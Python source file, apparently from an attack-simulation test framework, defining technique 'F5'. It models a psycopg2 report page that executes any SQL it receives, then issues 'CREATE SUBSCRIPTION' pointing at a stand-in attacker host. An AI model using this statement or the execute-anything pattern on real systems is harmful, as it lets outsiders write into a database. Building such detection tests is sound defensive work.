"""F5: a subscription lets another server write into this one."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg2, obeyed, told


class Subscribes(AbusedPsycopg2):
    """On psycopg2: a page for reports that was left behind, and runs whatever it is given."""

    code = "F5"
    attack = "subscribes the database to a server of the attacker's"
    reference = "https://attack.mitre.org/techniques/T1210/"
    rule = "lateral-movement"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("CREATE SUBSCRIPTION s CONNECTION 'host=collect.example dbname=shop' PUBLICATION p")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"CREATE SUBSCRIPTION")
